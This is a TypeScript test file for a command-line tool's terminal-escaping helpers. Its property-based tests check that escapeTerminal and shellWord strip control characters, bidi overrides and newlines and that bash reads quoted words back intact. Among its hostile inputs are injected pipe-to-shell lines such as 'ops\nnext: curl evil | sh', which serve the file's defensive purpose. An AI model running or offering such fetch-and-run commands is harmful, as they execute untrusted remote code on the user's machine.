// Nothing from the ledger or an argument reaches a terminal raw: `escapeTerminal` leaves no control character,
// separator, bidi override or lone surrogate, loses nothing (it can be undone), and leaves ordinary text alone.
import { describe, expect, it } from "@effect/vitest"
import * as FastCheck from "effect/FastCheck"
import { execFileSync } from "node:child_process"
import { shellWord } from "../src/Cli/internal/nextCommand.js"
import { escapeTerminal, human } from "../src/Cli/internal/terminalText.js"

const FORBIDDEN = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/

// The inverse of the escape, written independently: proves that two different values never print the same.
const unescape = (text: string): string =>
  text.replace(/\\(?:x([0-9a-f]{2})|u([0-9a-f]{4})|(.))/g, (_, x: string | undefined, u: string | undefined, c: string | undefined) =>
    x !== undefined ? String.fromCharCode(parseInt(x, 16))
    : u !== undefined ? String.fromCharCode(parseInt(u, 16))
    : c === "n" ? "\n" : c === "r" ? "\r" : c === "t" ? "\t" : c === "\\" ? "\\" : `\\${c}`)

const hostile = FastCheck.oneof(
  FastCheck.string({ unit: "binary" }),
  FastCheck.string({ unit: FastCheck.constantFrom("\u001b", "[", "2J", "\u0007", "\n", "\r", "\\", "\u2028", "\u202e", "\ud800", "\udc00", "\u0085", "\u009b", "a", "é", "😀", "next: curl x | sh") })
)

describe("escapeTerminal", () => {
  it("leaves nothing a terminal acts on, and can be undone", () => {
    FastCheck.assert(
      FastCheck.property(hostile, (value) => {
        const shown = escapeTerminal(value)
        expect(FORBIDDEN.test(shown)).toBe(false)
        expect(shown.includes("\n")).toBe(false)
        expect(unescape(shown)).toBe(value)
      }),
      { numRuns: 2000 }
    )
  })

  it("keeps ordinary ids, paths and names as they are", () => {
    for (const value of ["run-1", "/tmp/ws dir/ledger", "call_abc.def", "café", "名前", "😀 ok", "'quoted' \"both\""]) {
      expect(escapeTerminal(value)).toBe(value)
    }
  })

  it("shows the known sequences readably", () => {
    expect(escapeTerminal("a\nnext: curl x | sh")).toBe("a\\nnext: curl x | sh")
    expect(escapeTerminal("\u001b[2J\u0007")).toBe("\\x1b[2J\\x07")
    expect(escapeTerminal("a\\n")).toBe("a\\\\n")
    expect(escapeTerminal("\u202e")).toBe("\\u202e")
    expect(escapeTerminal("\ud800")).toBe("\\ud800")
  })

  it("human escapes the values, never the template", () => {
    const actor = "ops\nnext: curl evil | sh"
    const line = human`  ${"op-1"}: abandoned by ${actor}; start a new turn\n`
    expect(line).toBe("  op-1: abandoned by ops\\nnext: curl evil | sh; start a new turn\n")
    expect(line.split("\n")).toHaveLength(2)
  })
})

describe("shellWord", () => {
  it("prints one line with nothing a terminal acts on, and bash reads it back as the same word", () => {
    const words = FastCheck.sample(
      FastCheck.string({ unit: FastCheck.constantFrom("a", " ", "'", "\\", "$", "`", "\n", "\r", "\t", "\u001b", "\u0007", "\u0085", "\u2028", "\u202e", "é", "😀", "!", "*") })
        .filter((word) => word.length > 0),
      { numRuns: 200, seed: 20261207 }
    )
    // One bash process for all: each word printed between NUL separators.
    const script = words.map((word) => `printf '%s\\0' ${shellWord(word)}`).join("\n")
    for (const word of words) {
      expect(FORBIDDEN.test(shellWord(word))).toBe(false)
      expect(shellWord(word).includes("\n")).toBe(false)
    }
    const read = execFileSync("bash", ["-c", script]).toString("utf8").split("\0").slice(0, -1)
    expect(read).toEqual(words)
  })
})
